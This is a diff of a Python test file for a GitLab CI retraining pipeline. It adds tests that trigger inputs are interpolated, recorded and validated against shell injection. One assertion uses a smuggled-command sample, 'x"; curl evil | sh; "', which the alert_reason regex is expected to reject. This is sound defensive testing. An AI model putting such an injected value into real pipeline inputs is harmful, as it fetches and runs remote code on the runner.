@@ -45,9 +45,43 @@ class _GitLabLoader(yaml.SafeLoader):
 _GitLabLoader.add_constructor("!reference", lambda loader, node: loader.construct_sequence(node))
 
 
+@functools.cache
+def documents() -> tuple[dict[str, Any], dict[str, Any]]:
+    """The file's two YAML documents: the header (``spec: inputs``) and the pipeline before interpolation."""
+    header, body = yaml.load_all((ROOT / ".gitlab-ci.yml").read_text(), Loader=_GitLabLoader)
+    return header, body
+
+
+def inputs_spec() -> dict[str, dict[str, Any]]:
+    spec: dict[str, dict[str, Any]] = documents()[0]["spec"]["inputs"]
+    return spec
+
+
+_INPUT = re.compile(r"\$\[\[\s*inputs\.(\w+)\s*\]\]")
+
+
+def interpolate(node: Any, given: dict[str, str]) -> Any:
+    """``node`` with every ``$[[ inputs.NAME ]]`` replaced as GitLab does when it creates a pipeline: the given
+    value, else the input's default; an input the header does not declare is an error (GitLab's too)."""
+    if isinstance(node, dict):
+        return {k: interpolate(v, given) for k, v in node.items()}
+    if isinstance(node, list):
+        return [interpolate(v, given) for v in node]
+    if not isinstance(node, str):
+        return node
+    spec = inputs_spec()
+
+    def value(m: re.Match[str]) -> str:
+        assert m[1] in spec, f"$[[ inputs.{m[1]} ]] is not declared in spec:inputs"
+        return str(given.get(m[1], spec[m[1]].get("default")))
+
+    return _INPUT.sub(value, node)
+
+
 @functools.cache  # parsed once: the rules tests below resolve hundreds of jobs
 def pipeline() -> dict[str, Any]:
-    doc: dict[str, Any] = yaml.load((ROOT / ".gitlab-ci.yml").read_text(), Loader=_GitLabLoader)
+    """The pipeline as GitLab builds it for a caller that sends no inputs (every input at its default)."""
+    doc: dict[str, Any] = interpolate(documents()[1], {})
     return doc
 
 
@@ -194,11 +228,148 @@ def test_the_retraining_chain_needs_each_step_before() -> None:
         assert resolved(job)["artifacts"]["paths"] == ["$RUN_DIR/"], f"{job} passes no run directory on"
 
 
-def test_a_trigger_records_its_reason_and_refuses_missing_variables() -> None:
-    job = resolved("prep")
-    script = "\n".join(job["before_script"] + job["script"])
-    assert "${ALERT_REASON:?" in script and "${ALERT_NAME:?" in script and "${FORKCAST_DATA_DIR:?" in script
-    assert "trigger.json" in script
+def _record_trigger(
+    tmp_path: Path, source: str, given: dict[str, str], env: dict[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
+    """prep's before_script (.records-trigger) with ``given`` inputs interpolated, run as the runner runs it."""
+    lines = interpolate(resolve(documents()[1], "prep")["before_script"], given)
+    base = {"PATH": os.environ["PATH"], "RUN_DIR": "run", "CI_PIPELINE_SOURCE": source}
+    return subprocess.run(
+        ["bash", "-e", "-o", "pipefail", "-c", "\n".join(lines)],
+        cwd=tmp_path,
+        env={**base, **(env or {})},
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+
+
+def test_a_trigger_records_its_inputs_in_trigger_json(tmp_path: Path) -> None:
+    reason = "Online AUC of v2 is 0.620, below its floor (offline AUC - 0.05, at least 0.70)"
+    # A variable of the old interface, set as a trigger would have, is not what is recorded.
+    result = _record_trigger(
+        tmp_path,
+        "trigger",
+        {"alert_name": "OnlineAucLow", "alert_reason": reason},
+        {"ALERT_NAME": "FeatureDriftHigh", "ALERT_REASON": "forged"},
+    )
+    assert result.returncode == 0, result.stderr
+    record = json.loads((tmp_path / "run" / "trigger.json").read_text())
+    assert record == {
+        "CI_PIPELINE_SOURCE": "trigger",
+        "CI_PIPELINE_URL": "",
+        "alert_name": "OnlineAucLow",
+        "alert_reason": reason,
+    }
+    assert "${FORKCAST_DATA_DIR:?" in "\n".join(resolved("prep")["script"])
+
+
+@pytest.mark.parametrize(
+    ("given", "message"),
+    [
+        ({}, "a triggered retraining needs inputs alert_name"),
+        ({"alert_name": "OnlineAucLow"}, "a triggered retraining needs inputs alert_reason"),
+    ],
+    ids=["no-alert", "no-reason"],
+)
+def test_a_trigger_without_its_alert_stops_before_recording(
+    tmp_path: Path, given: dict[str, str], message: str
+) -> None:
+    result = _record_trigger(tmp_path, "trigger", given)
+    assert result.returncode == 1 and message in result.stderr, result.stderr
+    assert not (tmp_path / "run" / "trigger.json").exists()
+
+
+def test_a_scheduled_run_records_no_alert(tmp_path: Path) -> None:
+    result = _record_trigger(tmp_path, "schedule", {})
+    assert result.returncode == 0, result.stderr
+    record = json.loads((tmp_path / "run" / "trigger.json").read_text())
+    assert (record["alert_name"], record["alert_reason"]) == ("none", "")
+
+
+def test_jobs_read_the_alert_from_inputs_not_from_variables() -> None:
+    """Variables a trigger could send (ALERT_*, ROLLBACK_*) are read by no job; the inputs are declared once."""
+    text = (ROOT / ".gitlab-ci.yml").read_text()
+    assert not re.search(r"\$\{?(ALERT|ROLLBACK)_", text)
+    used = set(_INPUT.findall(yaml.dump(documents()[1])))
+    assert used == set(inputs_spec()) == {"alert_name", "alert_reason"}
+
+
+# What bash expands inside a double-quoted word, or what ends it (GNU bash manual, "Double Quotes"): the inputs are
+# interpolated into such words, so the reason's regex must admit none of these.
+_EXPANDED_IN_DOUBLE_QUOTES = set('$`"\\!\n')
+
+
+def test_the_reason_regex_admits_nothing_the_shell_expands() -> None:
+    pattern = re.compile(inputs_spec()["alert_reason"]["regex"])
+    admitted = {chr(c) for c in range(128) if pattern.fullmatch(chr(c))}
+    assert admitted and not admitted & _EXPANDED_IN_DOUBLE_QUOTES, sorted(
+        admitted & _EXPANDED_IN_DOUBLE_QUOTES
+    )
+    assert pattern.fullmatch("Online AUC of 20261123T101500Z-0123abcd is 0.612, below its floor (0.70)")
+    assert not pattern.fullmatch("x" * 201) and not pattern.fullmatch('x"; curl evil | sh; "')
+    assert inputs_spec()["alert_reason"]["default"] == ""
+    # Twin: a permissive regex is reported by the same check.
+    loose = {chr(c) for c in range(128) if re.fullmatch(r"^[^\n]{0,200}$", chr(c))}
+    assert loose & _EXPANDED_IN_DOUBLE_QUOTES == {"$", "`", '"', "\\", "!"}
+
+
+def routed_to_retrain(docs: list[dict[str, Any]]) -> set[str]:
+    """Names of the alerting rules (PrometheusRule) whose labels match an AlertmanagerConfig route that sends to
+    the alert receiver's webhook (prometheus-operator AlertmanagerConfig: matchType =, != and =~, RE2 anchored
+    as Alertmanager anchors matchers)."""
+    receivers = {
+        r["name"]
+        for d in docs
+        if d.get("kind") == "AlertmanagerConfig"
+        for r in d["spec"].get("receivers", [])
+        if any("alert-receiver" in w.get("url", "") for w in r.get("webhookConfigs", []))
+    }
+    routes = [
+        r
+        for d in docs
+        if d.get("kind") == "AlertmanagerConfig"
+        for r in d["spec"]["route"].get("routes", [])
+        if r.get("receiver") in receivers
+    ]
+    rules = [
+        rule
+        for d in docs
+        if d.get("kind") == "PrometheusRule"
+        for group in d["spec"]["groups"]
+        for rule in group["rules"]
+        if "alert" in rule
+    ]
+
+    def holds(m: dict[str, Any], labels: dict[str, str]) -> bool:
+        value, kind = labels.get(m["name"], ""), m.get("matchType", "=")
+        assert kind in ("=", "!=", "=~"), f"matchType {kind} is outside what this test evaluates"
+        if kind == "=~":
+            return re.fullmatch(m["value"], value) is not None
+        return (value == m["value"]) == (kind == "=")
+
+    return {
+        rule["alert"]
+        for rule in rules
+        for route in routes
+        if all(holds(m, rule.get("labels", {})) for m in route.get("matchers", []))
+    }
+
+
+def test_alert_name_options_are_the_alerts_routed_to_the_receiver() -> None:
+    from forkcast_delivery.render import load_all, overlay_dirs, render_text
+
+    rules = load_all(render_text(ROOT / "manifests/observability"))
+    for overlay in overlay_dirs(ROOT):
+        routed = routed_to_retrain([*rules, *load_all(render_text(overlay))])
+        assert routed and set(inputs_spec()["alert_name"]["options"]) == routed | {"none"}, overlay.name
+    assert inputs_spec()["alert_name"]["default"] == "none"
+    # Twin: a new action=retrain rule in the render is an option the header lacks.
+    extra = {"kind": "PrometheusRule", "spec": {"groups": [{"rules": [
+        {"alert": "NewRetrainAlert", "labels": {"action": "retrain"}}]}]}}  # fmt: skip
+    docs = [*rules, *load_all(render_text(ROOT / "manifests/overlays/dev")), extra]
+    assert routed_to_retrain(docs) - set(inputs_spec()["alert_name"]["options"]) == {"NewRetrainAlert"}
 
 
 def _flat(lines: list[Any]) -> list[str]:
@@ -273,7 +444,9 @@ def test_rollback_asks_about_every_application_that_deploys_an_overlay() -> None
     overlays = {
         a["metadata"]["name"] for a in apps if a["spec"]["source"]["path"].startswith("manifests/overlays/")
     }
-    assert asked == overlays and len(overlays) == len(list((ROOT / "manifests/overlays").glob("*/")))
+    # Every overlay a cluster runs; `local` is run by `forkcast-local up` on this machine, never by Argo CD.
+    cluster = [p for p in (ROOT / "manifests/overlays").glob("*/") if p.name != "local"]
+    assert asked == overlays and len(overlays) == len(cluster)
 
 
 def test_the_rollout_notifies_the_pipeline_on_abort() -> None:
